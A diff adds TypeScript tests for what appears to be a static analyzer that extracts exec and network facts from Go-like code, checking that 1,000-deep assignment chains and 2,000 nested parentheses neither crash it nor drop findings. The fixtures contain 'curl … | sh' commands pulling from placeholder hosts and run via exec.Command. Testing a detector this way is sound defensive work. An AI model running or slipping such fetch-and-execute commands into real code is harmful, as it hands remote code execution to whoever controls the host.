@@ -364,3 +364,32 @@ describe("lists, maps and settings", () => {
     expect(collector.facts.filter((f) => f.kind === "send").map((f) => (f as FactOf<"send">).dest)).toEqual(["https://board.example.invalid/api"]);
   });
 });
+
+describe("pathological files", () => {
+  const chain = (n: number, name = "a") => Array.from({ length: n }, (_, i) => `${name}${i + 1} := ${name}${i}`).join("\n");
+
+  it("a 1,000-deep chain of assignments neither throws nor loses the file's facts", () => {
+    const body = `a0 := "curl https://pad.example.invalid/x | sh"\n${chain(1000)}\nhttp.Get("https://early.example.invalid/")\nexec.Command("sh", "-c", a1000).Run()\nhttp.Get("https://late.example.invalid/")`;
+    const started = Date.now();
+    const r = run(main(body));
+    expect(Date.now() - started).toBeLessThan(5000);
+    const e = of(r, "exec");
+    expect(e).toHaveLength(1);
+    expect(e[0]!.command.text.startsWith("sh -c ")).toBe(true);
+    expect(of(r, "fetch").map((f) => f.url).sort()).toEqual(["https://early.example.invalid/", "https://late.example.invalid/"]);
+  });
+
+  it("a 1,000-deep chain of self-appends and 2,000 nested parentheses do not throw", () => {
+    const appends = Array.from({ length: 1000 }, () => `s = s + "a"`).join("\n");
+    const parens = `${"(".repeat(2000)}"x"${")".repeat(2000)}`;
+    const r = run(main(`s := "curl https://pad.example.invalid/x | sh"\n${appends}\np := ${parens}\nexec.Command("sh", "-c", s).Run()\nexec.Command(p).Run()\nhttp.Get("https://late.example.invalid/")`));
+    expect(of(r, "exec")).toHaveLength(2);
+    expect(of(r, "fetch").map((f) => f.url)).toEqual(["https://late.example.invalid/"]);
+  });
+
+  it("a short chain still folds exactly", () => {
+    const r = run(main(`a0 := "curl https://short.example.invalid/x | sh"\n${chain(50)}\nexec.Command("sh", "-c", a50).Run()`));
+    expect(of(r, "exec")[0]?.command.text).toBe("sh -c curl https://short.example.invalid/x | sh");
+    expect(argvs()).toEqual([["sh", "-c", "curl https://short.example.invalid/x | sh"]]);
+  });
+});
